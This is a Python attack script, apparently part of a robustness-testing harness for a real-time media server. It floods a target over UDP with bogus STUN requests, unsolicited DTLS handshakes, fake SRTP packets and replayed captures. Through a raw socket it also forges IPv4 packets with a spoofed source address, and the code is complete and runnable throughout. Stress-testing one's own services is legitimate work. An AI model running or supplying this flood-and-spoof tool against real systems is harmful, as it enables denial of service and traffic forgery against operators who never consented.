"""Attacks by datagram: `udp.py KIND HOST PORT SECONDS [SOURCE or FILE]`.

stun    binding requests with names and passwords that are nobody's
dtls    ClientHellos, whole and in fragments, from addresses that no ICE check has validated
srtp    packets that look like SRTP, of every length
replay  datagrams of a speaker that were recorded on the way, from addresses of others
forged  the same with the source address and ports of somebody else, by a raw socket
"""
import random
import socket
import struct
import sys
import zlib

from sources import many_networks, tell, until

COOKIE = 0x2112A442


def attribute(kind, value):
    return struct.pack(">HH", kind, len(value)) + value + bytes(-len(value) % 4)


def stun(rng):
    user = f"{rng.randrange(2 ** 32):08x}:{rng.randrange(2 ** 32):08x}".encode()
    body = attribute(0x0006, user) + attribute(0x0024, struct.pack(">I", 1)) + attribute(0x0008, rng.randbytes(20))
    head = struct.pack(">HHI", 1, len(body) + 8, COOKIE) + rng.randbytes(12)
    return head + body + attribute(0x8028, struct.pack(">I", zlib.crc32(head + body) ^ 0x5354554E))


def dtls(rng):
    hello = b"\xfe\xfd" + rng.randbytes(32) + b"\0\0" + b"\0\x02\xc0\x2b" + b"\1\0"
    offset, part = (0, hello) if rng.random() < 0.5 else (rng.randrange(10), hello[:10])
    message = b"\x01" + struct.pack(">I", len(hello))[1:] + b"\0\0" + struct.pack(">I", offset)[1:] + struct.pack(">I", len(part))[1:] + part
    return b"\x16\xfe\xff\0\0" + rng.randbytes(6) + struct.pack(">H", len(message)) + message


def srtp(rng):
    return b"\x80\x6f" + rng.randbytes(rng.randrange(2, 1200))


def datagram(source, sport, to, payload):
    """An IPv4 packet with a source of one's choice; the kernel fills in its checksum, UDP's is left out."""
    udp = struct.pack(">HHHH", sport, to[1], 8 + len(payload), 0) + payload
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(to[0]))
    return head + udp


def recorded(path):
    """Datagrams from a file: two bytes of length before each."""
    with open(path, "rb") as file:
        found = []
        while length := file.read(2):
            found.append(file.read(int.from_bytes(length, "big")))
    return found


def main(kind, host, port, seconds, source="10.77.0.9"):
    to, rng, sent, failed = (host, int(port)), random.Random(1), 0, 0
    made = recorded(source) if kind == "replay" else [{"stun": stun, "dtls": dtls, "srtp": srtp}.get(kind, srtp)(rng) for _ in range(4096)]
    if kind == "forged":
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        made = [datagram(source, rng.randrange(1024, 65536), to, one) for one in made]
        send = [lambda one: raw.sendto(one, (host, 0))]
    else:
        sources, lines = many_networks(), []
        for _ in range(200):
            line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            line.bind((next(sources), 0))
            line.connect(to)
            lines.append(line)
        send = [line.send for line in lines]
    some = len(made)
    for n in until(float(seconds)):
        for m in range(256):
            try:
                send[(n * 256 + m) % len(send)](made[rng.randrange(some)])
                sent += 1
            except OSError:
                failed += 1
    tell(datagrams=sent, failed=failed)


main(*sys.argv[1:])
